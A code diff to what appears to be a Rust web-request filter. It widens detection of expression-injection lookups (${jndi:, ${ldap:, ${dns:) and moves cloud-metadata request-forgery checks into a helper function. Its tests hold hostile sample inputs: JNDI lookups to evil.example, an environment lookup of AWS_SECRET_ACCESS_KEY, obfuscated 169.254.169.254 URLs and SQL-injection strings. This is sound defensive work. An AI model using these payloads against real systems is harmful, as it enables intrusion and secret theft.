@@ -3,16 +3,24 @@ use std::sync::LazyLock;
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder};
 
 use super::rule::Rule;
-use super::{doctype, expression, script, sql};
+use super::{address, doctype, expression, script, sql};
 
 /// What gives a value away wherever it stands in it, whatever the case of its letters.
-const ANYWHERE: [(&str, Rule); 56] = [
+const ANYWHERE: [(&str, Rule); 53] = [
     ("${jndi:", Rule::ExpressionInjection),
     ("${lower:", Rule::ExpressionInjection),
     ("${upper:", Rule::ExpressionInjection),
     ("${env:", Rule::ExpressionInjection),
     ("${sys:", Rule::ExpressionInjection),
     ("${script:", Rule::ExpressionInjection),
+    ("${dns:", Rule::ExpressionInjection),
+    ("${ldap:", Rule::ExpressionInjection),
+    ("${ldaps:", Rule::ExpressionInjection),
+    ("${rmi:", Rule::ExpressionInjection),
+    ("${url:", Rule::ExpressionInjection),
+    ("${const:", Rule::ExpressionInjection),
+    ("${base64decoder:", Rule::ExpressionInjection),
+    ("${java:", Rule::ExpressionInjection),
     ("${::-", Rule::ExpressionInjection),
     ("%{(#", Rule::ExpressionInjection),
     ("${t(java.", Rule::ExpressionInjection),
@@ -27,18 +35,7 @@ const ANYWHERE: [(&str, Rule); 56] = [
     ("{{constructor.", Rule::ExpressionInjection),
     (".__class__.", Rule::ExpressionInjection),
     (".__subclasses__", Rule::ExpressionInjection),
-    ("://169.254.169.254", Rule::RequestForgery),
-    ("://[fd00:ec2::254]", Rule::RequestForgery),
     ("://metadata.google.internal", Rule::RequestForgery),
-    ("@169.254.169.254", Rule::RequestForgery),
-    ("://2852039166", Rule::RequestForgery),
-    ("://0xa9fea9fe", Rule::RequestForgery),
-    ("://0xa9.0xfe.0xa9.0xfe", Rule::RequestForgery),
-    ("://0251.0376.0251.0376", Rule::RequestForgery),
-    ("://[::ffff:169.254.169.254]", Rule::RequestForgery),
-    ("://[::ffff:a9fe:a9fe]", Rule::RequestForgery),
-    ("://169.254.170.2", Rule::RequestForgery),
-    ("://100.100.100.200", Rule::RequestForgery),
     ("<!entity", Rule::EmbeddedEntity),
     ("../../", Rule::PathTraversal),
     ("..//..", Rule::PathTraversal),
@@ -107,6 +104,9 @@ pub(super) fn look_at(value: &str, mut tell: impl FnMut(Rule)) {
         if begins.is_some_and(|begins| begins.eq_ignore_ascii_case(start)) {
             tell(rule);
         }
+    }
+    if address::is_of_metadata(value) {
+        tell(Rule::RequestForgery);
     }
     if expression::is_nested(value) {
         tell(Rule::ExpressionInjection);
@@ -181,6 +181,18 @@ mod tests {
             ("${jn${foo:-d}i:ldap://evil.example/a}", Rule::ExpressionInjection),
             ("%24%7Bjndi:ldap://evil.example/a}", Rule::ExpressionInjection),
             ("*{T(java.lang.Runtime)}", Rule::ExpressionInjection),
+            ("${dns:address|evil.example}", Rule::ExpressionInjection),
+            ("${LDAP:cn=x}", Rule::ExpressionInjection),
+            ("${env:AWS_SECRET_ACCESS_KEY}", Rule::ExpressionInjection),
+            ("http://169.0xfe.0251.254/", Rule::RequestForgery),
+            ("http://[::ffff:169.254.169.254]/", Rule::RequestForgery),
+            ("1 or id=id", Rule::SqlPattern),
+            ("'-sleep(5)-'", Rule::SqlPattern),
+            ("1 or 2>1", Rule::SqlPattern),
+            (
+                "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>x</h:script>",
+                Rule::ScriptPattern,
+            ),
             ("1 OR 1=1", Rule::SqlPattern),
             ("1 uNiOn/*x*/SeLeCt password from users", Rule::SqlPattern),
             ("1 union select password from users", Rule::SqlPattern),
@@ -296,6 +308,17 @@ mod tests {
             "2026-11-24 or 2026-11-25",
             "dGhlIHF1aWNrIGJyb3duIGZveA==",
             "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
+            "<person onboarding=yes>",
+            "<task onward='x' ongoing=true/>",
+            "information_schema.tables is a view",
+            "The view INFORMATION_SCHEMA.COLUMNS (see SQL-92) lists columns.",
+            "A query has a SELECT list, a FROM clause and, if need be, WHERE; e.g. SELECT name FROM customers WHERE id = 7",
+            "pg_sleep() waits, and xp_cmdshell is off.",
+            "${url}/${const}: ${java.version}",
+            "http://192.168.0.1/ or //example.org",
+            "1 or a=b",
+            "2 or more = many",
+            "<x:object>a</x:object>",
         ] {
             assert_eq!(rules(harmless), [], "{harmless}");
         }
